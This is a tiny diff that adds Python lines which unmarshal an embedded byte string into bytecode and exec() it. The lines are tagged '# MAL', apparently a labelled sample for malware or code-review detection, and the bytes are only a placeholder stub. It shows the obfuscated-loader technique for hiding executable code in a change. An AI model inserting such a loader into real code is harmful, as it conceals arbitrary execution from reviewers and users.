@@ -1,0 +1,3 @@
+import marshal
+_code = marshal.loads(b"\xe3\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00")  # MAL
+exec(_code)  # MAL
